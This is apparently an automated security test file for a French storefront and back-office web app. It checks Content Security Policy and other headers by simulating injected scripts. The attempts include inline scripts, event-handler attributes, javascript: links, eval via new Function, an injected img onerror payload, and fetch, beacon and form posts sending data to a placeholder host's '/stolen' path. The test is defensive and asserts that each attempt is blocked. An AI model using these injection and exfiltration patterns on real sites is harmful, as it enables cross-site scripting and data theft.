import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { openScreen } from '../support/back-office.ts';
import { publicPages } from '../support/public-pages.ts';
import { backoffice, storefront, test } from '../support/test.ts';

declare global {
  interface Window {
    /** Set by an injected script that was not blocked. */
    planted?: boolean;
    violations: string[];
  }
}

const elsewhere = 'https://elsewhere.example';

/** What an injected script would try, and the directive that blocks it. */
const attempts: Record<string, [directive: string, attempt: (elsewhere: string) => void]> = {
  'an inline script': [
    'script-src-elem',
    () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'planted = true' })),
  ],
  'a handler in an attribute': [
    'script-src-attr',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'planted = true');
      button.click();
    },
  ],
  'a script from elsewhere': [
    'script-src-elem',
    (host) => document.body.append(Object.assign(document.createElement('script'), { src: `${host}/x.js` })),
  ],
  'an address that is a script': [
    'script-src-elem',
    () => {
      const link = Object.assign(document.createElement('a'), { href: 'javascript:planted = true' });
      document.body.append(link);
      link.click();
    },
  ],
  'code from a text': [
    'script-src',
    () => {
      // Playwright's own evaluation is exempt from the policy; what runs later is not.
      setTimeout(() => {
        try {
          new Function('window.planted = true')();
        } catch {}
      });
    },
  ],
  'a call to elsewhere': ['connect-src', (host) => void fetch(`${host}/stolen`).catch(() => {})],
  'a beacon to elsewhere': ['connect-src', (host) => void navigator.sendBeacon(`${host}/stolen`)],
  'a frame of elsewhere': [
    'frame-src',
    (host) => document.body.append(Object.assign(document.createElement('iframe'), { src: host })),
  ],
  'a plug-in of elsewhere': [
    'object-src',
    (host) => document.body.append(Object.assign(document.createElement('object'), { data: `${host}/x.swf` })),
  ],
  'a stylesheet from elsewhere': [
    'style-src-elem',
    (host) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${host}/x.css` })),
  ],
  'a form sent elsewhere': [
    'form-action',
    (host) => {
      const form = Object.assign(document.createElement('form'), { action: `${host}/stolen`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
  'another base of all addresses': [
    'base-uri',
    (host) => document.head.append(Object.assign(document.createElement('base'), { href: host })),
  ],
};

const front = {
  storefront: { open: (page: Page) => page.goto(storefront('/cgv')), address: () => storefront('/cgv') },
  'back-office': { open: (page: Page) => openScreen(page, '/admin/demandes'), address: () => backoffice('/login') },
};

describe.each(Object.entries(front))('the %s', (_name, { open, address }) => {
  test('blocks whatever an injected script would try', async ({ page, expectedProblems }) => {
    expectedProblems.push(/Content Security Policy/, /elsewhere\.example/);
    const requests: string[] = [];
    await page.route(`${elsewhere}/**`, (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        window.violations.push(effectiveDirective),
      );
    });
    await open(page);
    for (const [what, [directive, attempt]] of Object.entries(attempts)) {
      await page.evaluate(() => {
        window.violations.length = 0;
      });
      await page.evaluate(attempt, elsewhere);
      await expect.poll(() => page.evaluate(() => window.violations), { message: what }).toContain(directive);
    }
    await expect.poll(() => page.evaluate(() => window.planted)).toBeUndefined();
    expect(requests).toEqual([]);
  });

  test('blocks an inline script in the page', async ({ page, expectedProblems }) => {
    expectedProblems.push(/Content Security Policy/);
    await page.route(address(), async (route) => {
      const response = await route.fetch();
      const planted = '<script>planted = true</script><img src="data:," onerror="planted = true">';
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${planted}</body>`) });
    });
    await page.goto(address(), { waitUntil: 'networkidle' });
    expect(await page.locator('img[onerror]').count()).toBe(1);
    expect(await page.evaluate(() => window.planted)).toBeUndefined();
  });
});

const always = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
};

/** Only the back-office may ask for something: the camera, for the labels of pieces. */
const permissions = [
  [storefront, 'camera=(), geolocation=(), microphone=(), payment=(), usb=()'],
  [backoffice, 'camera=(self), geolocation=(), microphone=(), payment=(), usb=()'],
] as const;

/** The storefront’s exact policy: any change must be made here, too. */
const pagePolicy = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' data: https:",
  "font-src 'self'",
  "manifest-src 'self'",
  "connect-src 'self'",
  "form-action 'self'",
  "base-uri 'none'",
  "frame-ancestors 'none'",
].join(';');

test.for(publicPages)('$path holds no script, handler or style in its text', async ({ path }) => {
  const answer = await fetch(storefront(path));
  const html = await answer.text();
  const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
  const inline = scripts.filter((attributes) => !/ src="\/|type="application\/(ld\+)?json"/.test(attributes));
  expect(inline).toEqual([]);
  expect(html).not.toMatch(/<style|<[^>]+\s(style|on\w+)=/);
  // A secret address must not leak by the referrer.
  const isPrivate = path.startsWith('/suivi/');
  const headers = { ...always, ...(isPrivate && { 'referrer-policy': 'no-referrer' }) };
  expect(Object.fromEntries(answer.headers)).toMatchObject({ ...headers, 'content-security-policy': pagePolicy });
});

test.for([
  '/',
  '/nulle/part',
  '/article/nulle-part',
  '/sitemap.xml',
  '/robots.txt',
  '/default-article.jpg',
  '/assets/none.js',
  '/api/articles',
  '/api/nothing',
  '/graphql',
  '/media/x/y.jpg',
  '/healthz',
  '/%E0%A4%A',
])('%s says on both sites what a browser must not do with it', async (path) => {
  // By the service, with its own headers.
  const isService = /^\/(api|graphql|media)/.test(path);
  for (const [site, policy] of permissions) {
    const address = site(path);
    const headers = Object.fromEntries((await fetch(address, { redirect: 'manual' })).headers);
    expect(headers, address).toMatchObject({
      ...always,
      'permissions-policy': isService ? permissions[0][1] : policy,
      'content-security-policy': expect.stringContaining('default-src'),
    });
    const unexpected = Object.keys(headers).filter((name) =>
      /^(set-cookie|access-control-.*|server|x-powered-by)$/.test(name),
    );
    expect(unexpected, address).toEqual([]);
  }
});

test.for([
  ['/', 'POST'],
  ['/catalogue', 'PUT'],
  ['/nulle/part', 'DELETE'],
])('%s takes no %s on either site, and says what it takes', async ([path = '', method = '']) => {
  for (const address of [storefront(path), backoffice(path)]) {
    const answer = await fetch(address, {
      method,
      body: '{}',
      headers: { 'content-type': 'application/json' },
    });
    expect([answer.status, answer.headers.get('allow')], address).toEqual([405, 'GET, HEAD']);
    expect(Object.fromEntries(answer.headers), address).toMatchObject(always);
  }
});
